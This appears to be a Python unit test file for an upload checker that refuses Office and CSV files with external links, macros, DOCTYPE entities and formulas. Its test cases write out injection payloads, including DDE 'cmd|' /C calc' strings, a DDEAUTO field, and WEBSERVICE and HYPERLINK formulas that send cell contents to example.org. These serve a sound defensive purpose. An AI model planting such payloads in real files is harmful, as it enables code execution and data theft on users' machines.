"""Files of cases that run or fetch something in the program of the other party are refused with what was found."""

import io
import random

import pytest
import xlsxwriter

from registry.files.types import DOCX, FileRefused, check_type
from tests.unit.test_file_types import workbook

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" {mode}/></Relationships>'
)
#: Ends a few bytes before the end of a piece that is read at once.
NOISE = random.Random(1).randbytes(32763).hex()  # noqa: S311 - no secret
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c>{}</c></worksheet>'
DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:document>'


def relations(kind, target, mode='TargetMode="External"'):
    return {"xl/worksheets/_rels/sheet1.xml.rels": RELATIONS.format(kind=kind, target=target, mode=mode).encode()}


def sheet(inner):
    return {"xl/worksheets/sheet1.xml": SHEET.format(inner).encode()}


def refusal(name, content, more=None):
    with pytest.raises(FileRefused) as refused:
        check_type(name, content, more or {})
    return str(refused.value)


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        (relations("externalLinkPath", "file:///\\\\10.0.0.1\\a.xlsx"), "liên kết ngoài"),
        (relations("externalLinkPath", "a.xlsx", 'TargetMode="&#69;xternal"'), "liên kết ngoài"),
        (relations("image", "https://example.org/a.png"), "https://example.org/a.png"),
        (relations("hyperlink", "file:///C:/a.exe"), "liên kết ngoài"),
        ({"xl/externalLinks/externalLink1.xml": b"<a/>"}, "externalLink1.xml"),
        ({"xl/embeddings/oleObject1.bin": b"\xd0\xcf"}, "oleObject1.bin"),
        ({"xl/connections.xml": b"<a/>"}, "connections.xml"),
        ({"xl/ctrlProps/vbaProject.BIN": b"x"}, "macro"),
        ({"xl/worksheets/sheet1.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "DOCTYPE"),
        ({"xl/worksheets/sheet1.xml": f"<!--{NOISE}--><!DOCTYPE a><a/>".encode()}, "DOCTYPE"),
        ({"xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}, "UTF-8"),
        ({"xl/worksheets/sheet1.xml": b"<?xml version='1.0' encoding='utf-7'?><a/>"}, "UTF-8"),
        (sheet('<f>WEBSERVICE("http://example.org/"&amp;A1)</f>'), "WEBSERVICE("),
        (sheet("<f>&#87;EBSERVICE(A1)</f>"), "WEBSERVICE("),
        (sheet("<f>WEB<!-- a -->SERVICE(A1)</f>"), "WEBSERVICE("),
        (sheet("<f><![CDATA[cmd|' /C calc'!A0]]></f>"), "cmd|"),
        (sheet("<f>_xlfn.WEBSERVICE (A1)</f>"), "WEBSERVICE"),
        ({"xl/workbook2.xml": b"<x:definedName xmlns:x='u'>HYPERLINK(A1)</x:definedName>"}, "HYPERLINK("),
    ],
)
def test_a_workbook_that_reaches_outside_is_refused_with_what_was_found(loaded_app, parts, words):
    with loaded_app.test_request_context():
        assert words in refusal("a.xlsx", workbook(parts))


@pytest.mark.parametrize(
    ("inner", "words"),
    [
        ("<w:instrText>DDE</w:instrText><w:t>a</w:t><w:instrText>AUTO c:\\a.exe</w:instrText>", "DDEAUTO"),
        ('<w:fldSimple w:instr="INCLUDETEXT c:/a"/>', "INCLUDETEXT"),
    ],
)
def test_a_document_with_a_field_that_fetches_is_refused(loaded_app, inner, words):
    content = workbook({"word/header1.xml": DOCUMENT.format(inner).encode()}, main="word/document.xml")
    with loaded_app.test_request_context():
        assert words in refusal("a.docx", content, DOCX)


@pytest.mark.parametrize(
    "line",
    [
        '=HYPERLINK("http://example.org?"&A1)',
        "Trạm;=1+1",
        "Trạm,\"=cmd|' /C calc'!A0\"",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+SUM(A1)",
        "a\t =1+1",
        "＝1+1",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_table_with_a_formula_is_refused_with_its_line(loaded_app, line, encoding):
    with loaded_app.test_request_context():
        assert "có công thức ở dòng 2" in refusal("a.csv", f"STT;Tên\n{line}\n".encode(encoding))


def test_honest_tables_are_taken():
    text = (
        "STT;Tên;SĐT;Số\n1;Trạm - A (mới);+84 912 345 678;-5\n2;a@b.vn, x = 1;+84 (373) 123;-3,5 %\n- ghi chú;a=b;;\n"
    )
    assert check_type("a.csv", text.encode()) == "text/csv"


def test_an_honest_workbook_with_sums_and_a_web_link_is_taken():
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"in_memory": True}) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, [1, "cmd|' /C calc'!A0"])
        page.write_formula(1, 0, "=SUM(A1:A1)")
        page.write_url(2, 0, "https://example.org/")
    assert check_type("a.xlsx", target.getvalue()).endswith("sheet")
